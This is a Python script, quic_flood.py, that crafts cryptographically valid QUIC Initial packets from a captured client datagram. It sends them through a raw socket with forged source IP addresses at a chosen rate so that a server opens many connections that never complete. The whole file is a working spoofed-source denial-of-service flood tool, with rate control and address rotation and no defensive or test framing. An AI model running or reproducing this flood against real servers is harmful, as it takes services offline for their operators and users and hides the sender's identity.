#!/usr/bin/env python3
"""Sends QUIC Initials from forged addresses, each right in itself, and never completes a handshake.

  quic_flood.py IP PORT COUNT PER_SECOND FILE

FILE holds the first datagram of a real client. Each Initial is its handshake message, sealed anew for a
connection id of its own (RFC 9001, 5.2), so that each begins a connection. No address is used twice.
Prints "ready" before the first leaves. Needs root.
"""
import ctypes
import ctypes.util
import hashlib
import hmac
import os
import pathlib
import socket
import struct
import sys
import time

SALT = bytes.fromhex("38762cf7f55934b34d179ae6a4c80cadccbb7f0a")
TAG, ID_BYTES, LENGTH_BYTES, NUMBER_BYTES = 16, 20, 2, 4
DISTINCT = 10_000  # Initials; beyond, the same come from other addresses: few are held by the server at a time.
CRYPTO = ctypes.CDLL(ctypes.util.find_library("crypto") or "libcrypto.so.3")
for function in ("EVP_CIPHER_CTX_new", "EVP_aes_128_gcm", "EVP_aes_128_ecb"):
    getattr(CRYPTO, function).restype = ctypes.c_void_p


class Cipher:
    """AES-128, by the library that Python's own TLS uses."""

    GET_TAG = 0x10

    def __init__(self):
        self.context = ctypes.c_void_p(CRYPTO.EVP_CIPHER_CTX_new())
        self.gcm = ctypes.c_void_p(CRYPTO.EVP_aes_128_gcm())
        self.ecb = ctypes.c_void_p(CRYPTO.EVP_aes_128_ecb())
        self.out, self.size = ctypes.create_string_buffer(2048), ctypes.c_int()

    def update(self, data, out):
        if CRYPTO.EVP_CipherUpdate(self.context, out, ctypes.byref(self.size), data, len(data)) != 1:
            raise RuntimeError("libcrypto")

    def start(self, cipher, key, nonce, is_sealing):
        if CRYPTO.EVP_CipherInit_ex(self.context, cipher, None, key, nonce, int(is_sealing)) != 1:
            raise RuntimeError("libcrypto")

    def block(self, key, data):
        self.start(self.ecb, key, None, True)
        self.update(data, self.out)
        return self.out.raw[:16]

    def seal(self, key, nonce, associated, data):
        self.start(self.gcm, key, nonce, True)
        self.update(associated, None)
        self.update(data, self.out)
        sealed = self.out.raw[:len(data)]
        CRYPTO.EVP_CipherFinal_ex(self.context, self.out, ctypes.byref(self.size))
        CRYPTO.EVP_CIPHER_CTX_ctrl(self.context, self.GET_TAG, TAG, self.out)
        return sealed + self.out.raw[:TAG]

    def open(self, key, nonce, data):
        """Without a look at the tag: it is our own client's."""
        self.start(self.gcm, key, nonce, False)
        self.update(data[:-TAG], self.out)
        return self.out.raw[:len(data) - TAG]


def expand(secret, label, size):
    label = b"tls13 " + label
    info = struct.pack(">HB", size, len(label)) + label + b"\0\1"
    return hmac.digest(secret, info, hashlib.sha256)[:size]


def client_keys(connection_id):
    secret = expand(hmac.digest(SALT, connection_id, hashlib.sha256), b"client in", 32)
    return expand(secret, b"quic key", 16), expand(secret, b"quic iv", 12), expand(secret, b"quic hp", 16)


def nonce_of(iv, number):
    return iv[:4] + (int.from_bytes(iv[4:], "big") ^ number).to_bytes(8, "big")


def varint(data, at):
    size = 1 << (data[at] >> 6)
    return int.from_bytes(data[at:at + size], "big") & ((1 << (8 * size - 2)) - 1), at + size


def handshake_message(cipher, packet):
    """The frames of a client's first packet, and the connection id that it gives itself."""
    at = 6 + packet[5]
    connection_id, source = packet[6:at], packet[at + 1:at + 1 + packet[at]]
    token_bytes, at = varint(packet, at + 1 + packet[at])
    length, at = varint(packet, at + token_bytes)
    key, iv, protection = client_keys(connection_id)
    mask = cipher.block(protection, packet[at + 4:at + 20])
    number_bytes = ((packet[0] ^ mask[0]) & 3) + 1
    number = int.from_bytes(bytes(a ^ b for a, b in zip(packet[at:at + number_bytes], mask[1:])), "big")
    return cipher.open(key, nonce_of(iv, number), packet[at + number_bytes:at + length]), source


def initial(cipher, frames, source):
    """Frames end with padding, of which what does not fit is left away."""
    connection_id = os.urandom(ID_BYTES)
    key, iv, protection = client_keys(connection_id)
    ids = bytes([ID_BYTES]) + connection_id + bytes([len(source)]) + source
    frames = frames[:1200 - 5 - len(ids) - 1 - LENGTH_BYTES - NUMBER_BYTES - TAG]
    length = NUMBER_BYTES + len(frames) + TAG
    header = (bytes([0xC0 | NUMBER_BYTES - 1, 0, 0, 0, 1]) + ids + b"\0" + struct.pack(">H", 0x4000 | length)
              + bytes(NUMBER_BYTES))
    sealed = cipher.seal(key, nonce_of(iv, 0), header, frames)
    mask = cipher.block(protection, sealed[:16])
    number = bytes(a ^ b for a, b in zip(header[-NUMBER_BYTES:], mask[1:]))
    return bytes([header[0] ^ mask[0] & 0x0F]) + header[1:-NUMBER_BYTES] + number + sealed


def main():
    ip, port, count, per_second = sys.argv[1], *(int(word) for word in sys.argv[2:5])
    cipher = Cipher()
    frames, source = handshake_message(cipher, pathlib.Path(sys.argv[5]).read_bytes())
    packets = [initial(cipher, frames, source) for _ in range(min(count, DISTINCT))]
    to = socket.inet_aton(ip)
    print("ready", flush=True)
    since = time.monotonic()
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as ours:
        for i in range(count):
            packet = packets[i % len(packets)]
            udp = struct.pack(">HHHH", 5000, port, 8 + len(packet), 0) + packet
            forged = struct.pack(">I", (11 << 24) + i * 37 % (1 << 27))  # 11.0.0.0/8 and up.
            ours.sendto(struct.pack(">BBHHHBBH", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0) + forged + to + udp, (ip, 0))
            if i % 50 == 49:
                time.sleep(max(0, since + i / per_second - time.monotonic()))


if __name__ == "__main__":
    main()
